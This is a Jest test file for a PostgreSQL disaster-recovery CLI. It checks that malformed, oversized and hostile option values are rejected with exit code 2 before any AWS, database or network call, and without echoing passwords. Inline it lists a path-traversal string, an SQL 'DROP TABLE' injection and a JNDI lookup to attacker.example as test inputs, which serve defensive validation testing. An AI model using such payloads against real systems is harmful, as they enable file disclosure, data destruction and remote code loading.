import { join } from 'node:path';
import { Client } from 'pg';
import { runCli, type CliIo } from '../../lib/cli/program';
import { HOSTILE, HOSTILE_PASSWORD, HOSTILE_URL, MIGRATE_ARGV, OVERSIZED } from '../support/bad-values';

/**
 * Bad input on the command line: every option of every `dr` command replaced in turn with malformed,
 * oversized and hostile values, left out when required, and joined by an unknown option. Each must end with
 * exit code 2 and a message naming the option, before any AWS call, database connection or network request,
 * and without echoing a password.
 */
const VALUES = [...HOSTILE, ''];
const NUMBERS = ['-1', '0', '1e15', '99999999999999999999', 'soon', '1.5', ''];

interface CliTarget {
  readonly name: string;
  readonly argv: readonly string[];
  /** Options taking numbers. */
  readonly numeric: readonly string[];
  readonly required: readonly string[];
  /** Hostile values that are legitimate for an option (e.g. a database URL for --database-url). */
  readonly legitimate?: Readonly<Record<string, readonly string[]>>;
}

const EXAMPLES = join(__dirname, '..', '..', 'examples', 'prisma', 'migrations');
const DATABASE_URL = 'postgresql://app:Pw-Local-1@127.0.0.1:1/app';
const migrations = (command: string, extra: string[] = []): CliTarget => ({
  name: `dr migrations ${command}`,
  argv: [
    'migrations',
    command,
    '--database-url',
    DATABASE_URL,
    '--dir',
    EXAMPLES,
    '--schema',
    'public',
    '--lock-timeout',
    '5000',
    ...extra,
  ],
  numeric: ['--lock-timeout'],
  required: [],
  legitimate: {
    '--database-url': [HOSTILE_URL],
    // A folder path is only read; these name folders without migrations, refused as such (see below).
    '--dir': ['../../etc/passwd', "x'; DROP TABLE account; --", '${jndi:ldap://attacker.example/x}'],
  },
});
const drillCommon = [
  '--stack',
  'pg-dr-orchestration',
  '--schedule-rule',
  'pg-dr-weekly-failover-drill',
  '--state-machine-arn',
  'arn:aws:states:us-east-1:111122223333:stateMachine:pg-dr-failover-drill',
  '--region',
  'us-east-1',
];

const TARGETS: CliTarget[] = [
  {
    name: 'dr migrate',
    argv: [
      ...MIGRATE_ARGV,
      '--dns-set-identifier',
      'db.provability-fabric.org-primary',
      '--dns-secondary-set-identifier',
      'db.provability-fabric.org-secondary',
      '--subscription',
      'dr_blue_green',
      '--catch-up-timeout',
      '30000',
      '--rebuild-dr',
      '--green-instance-id',
      'green',
      '--dr-replica-instance-id',
      'green-dr',
      '--state-machine-arn',
      'arn:aws:states:us-east-1:111122223333:stateMachine:pg-dr-blue-green-migration',
      '--stack',
      'pg-dr-orchestration',
      '--region',
      'us-east-1',
      '--execution-name',
      'migrate-manual-1',
      '--poll-interval',
      '1000',
      '--timeout',
      '60000',
    ],
    numeric: ['--catch-up-timeout', '--poll-interval', '--timeout'],
    required: ['--blue-db-secret', '--green-db-secret', '--dns-zone', '--dns-record'],
    legitimate: { '--blue-db-secret': ['../../etc/passwd'], '--green-db-secret': ['../../etc/passwd'] },
  },
  {
    name: 'dr drill',
    argv: [
      'drill',
      ...drillCommon,
      '--execution-name',
      'manual-1',
      '--poll-interval',
      '1000',
      '--timeout',
      '60000',
    ],
    numeric: ['--poll-interval', '--timeout'],
    required: [],
  },
  { name: 'dr drill restore', argv: ['drill', 'restore', ...drillCommon], numeric: [], required: [] },
  {
    name: 'dr doctor',
    argv: ['doctor', '--config', join(__dirname, '..', '..', 'cdk.json')],
    numeric: [],
    required: [],
  },
  {
    name: 'dr hold',
    argv: [
      'hold',
      '--stack',
      'pg-dr-failover-dns',
      '--health-check-id',
      '0a1b2c3d-0000-4000-8000-000000000001',
      '--region',
      'us-east-1',
    ],
    numeric: [],
    required: [],
  },
  {
    name: 'dr status',
    argv: ['status', ...drillCommon, '--limit', '5'],
    numeric: ['--limit'],
    required: [],
  },
  migrations('plan'),
  migrations('status'),
  migrations('apply'),
  migrations('resolve', ['--rolled-back', '20240201000000_index_orders_created_at']),
  migrations('resolve', ['--applied', '20240201000000_index_orders_created_at']),
];

interface Case {
  readonly option: string;
  readonly kind: string;
  readonly argv: readonly string[];
  /** What the message must say, when it is not the option's name. */
  readonly says?: RegExp;
}

/** How long the error part of a message (before the usage text) may be, whatever was typed. */
const MAX_ERROR_CHARS = 400;

/** The option names of an argv (`--x` followed by a value, or a flag alone). */
function optionsOf(argv: readonly string[]): { option: string; valueAt?: number }[] {
  const out: { option: string; valueAt?: number }[] = [];
  argv.forEach((arg, i) => {
    if (!arg.startsWith('--')) return;
    const next = argv[i + 1];
    out.push(
      next !== undefined && !next.startsWith('--') ? { option: arg, valueAt: i + 1 } : { option: arg },
    );
  });
  return out;
}

function cases(target: CliTarget): Case[] {
  const out: Case[] = [];
  const replaced = (at: number, value: string) => target.argv.map((a, i) => (i === at ? value : a));
  for (const { option, valueAt } of optionsOf(target.argv)) {
    if (valueAt === undefined) continue;
    const values = target.numeric.includes(option)
      ? [...NUMBERS, OVERSIZED]
      : [...VALUES, OVERSIZED].filter((v) => !(target.legitimate?.[option] ?? []).includes(v));
    for (const value of values)
      out.push({
        option,
        kind: `value ${JSON.stringify(value.slice(0, 40))}`,
        argv: replaced(valueAt, value),
      });
  }
  for (const option of target.required) {
    const at = target.argv.indexOf(option);
    out.push({
      option,
      kind: 'missing',
      argv: target.argv.filter((_a, i) => i !== at && i !== at + 1),
    });
  }
  out.push({ option: '--sneaky', kind: 'unknown option', argv: [...target.argv, '--sneaky', '1'] });
  // Every bad value where the parser itself echoes what it got: an extra argument, an unknown command, an
  // unknown option's `=value`, a mistyped option (`--database-ur=<url>`).
  const [command = '', ...rest] = target.argv;
  const typo = optionsOf(target.argv).find((o) => o.valueAt !== undefined)?.option ?? '--sneaky';
  for (const value of [...VALUES, OVERSIZED]) {
    const kind = `value ${JSON.stringify(value.slice(0, 40))}`;
    out.push({
      option: '(argument)',
      kind: `extra argument, ${kind}`,
      argv: [...target.argv, value],
      says: /too many arguments|unknown command/,
    });
    if (value !== '')
      out.push({
        option: '(command)',
        kind: `in place of ${command}, ${kind}`,
        argv: [value, ...rest],
        says: /unknown command/,
      });
    out.push({
      option: '--sneaky',
      kind: `unknown option, =${kind}`,
      argv: [...target.argv, `--sneaky=${value}`],
    });
    out.push({
      option: typo.slice(0, -1),
      kind: `mistyped option, =${kind}`,
      argv: [...target.argv, `${typo.slice(0, -1)}=${value}`],
    });
  }
  return out;
}

describe('bad input on the command line: every option of every dr command', () => {
  const calls: string[] = [];
  const refusing = (service: string) => ({
    // Like the SDK: a rejected promise, never a synchronous throw.
    send: (): Promise<never> => {
      calls.push(service);
      return Promise.reject(new Error('bad input must be rejected before any AWS call'));
    },
  });
  const connects = jest.spyOn(Client.prototype, 'connect').mockImplementation((): never => {
    calls.push('postgres');
    throw new Error('bad input must be rejected before connecting');
  });
  const fetches = jest.spyOn(globalThis, 'fetch').mockImplementation((): never => {
    calls.push('fetch');
    throw new Error('bad input must be rejected before any request');
  });
  afterAll(() => {
    connects.mockRestore();
    fetches.mockRestore();
  });

  async function dr(argv: readonly string[]) {
    let out = '';
    let err = '';
    const write = (text: string) => {
      out += text;
    };
    const follow = { out: write, now: () => 0, sleep: () => Promise.resolve() };
    const io: CliIo = {
      out: write,
      err: (text) => {
        err += text;
      },
      env: {},
      migrateIo: () => ({ ...follow, sfn: refusing('sfn'), cloudFormation: refusing('cloudformation') }),
      drillIo: () => ({
        ...follow,
        sfn: refusing('sfn'),
        cloudFormation: refusing('cloudformation'),
        events: refusing('events'),
        route53: refusing('route53'),
        ssm: refusing('ssm'),
      }),
      holdIo: () => ({ cloudFormation: refusing('cloudformation'), route53: refusing('route53') }),
      doctorIo: () => ({
        cloudFormation: () => refusing('cloudformation'),
        route53: () => refusing('route53'),
        rds: () => refusing('rds'),
        cloudwatch: () => refusing('cloudwatch'),
        s3: () => refusing('s3'),
        events: () => refusing('events'),
        sns: () => refusing('sns'),
        secrets: () => refusing('secretsmanager'),
        now: () => 0,
      }),
    };
    const code = await runCli(argv, io);
    return { code, out, err };
  }

  let tried = 0;
  afterAll(() => {
    // The count docs/reliability.md quotes.
    process.stderr.write(`CLI bad-input cases tried: ${tried}\n`);
    expect(tried).toBeGreaterThan(300);
  });

  it.each(TARGETS.map((t) => [t.name, t] as const))(
    '%s: every bad option value ends with exit 2, naming the option, touching nothing',
    async (_name, target) => {
      // The valid command line passes the checks and fails only at the refused call.
      calls.length = 0;
      const valid = await dr(target.argv);
      expect(valid.code).toBe(1);
      expect(calls.length).toBeGreaterThan(0);

      const wrong: string[] = [];
      for (const c of cases(target)) {
        tried += 1;
        calls.length = 0;
        const result = await dr(c.argv);
        const said = result.err + result.out;
        const error = said.split('\nUsage:')[0] ?? '';
        if (result.code !== 2)
          wrong.push(`${c.option} ${c.kind}: exit ${result.code}: ${said.slice(0, 200)}`);
        else if (c.says === undefined ? !said.includes(c.option) : !c.says.test(said))
          wrong.push(`${c.option} ${c.kind}: message does not name it: ${said.slice(0, 400)}`);
        else if (error.length > MAX_ERROR_CHARS)
          wrong.push(`${c.option} ${c.kind}: ${error.length} characters of error: ${error.slice(0, 200)}`);
        if (calls.length > 0) wrong.push(`${c.option} ${c.kind}: called ${calls.join(', ')}`);
        expect(said).not.toContain(HOSTILE_PASSWORD);
        expect(said).not.toContain('Pw-Local-1');
      }
      expect(wrong).toEqual([]);
    },
  );
});
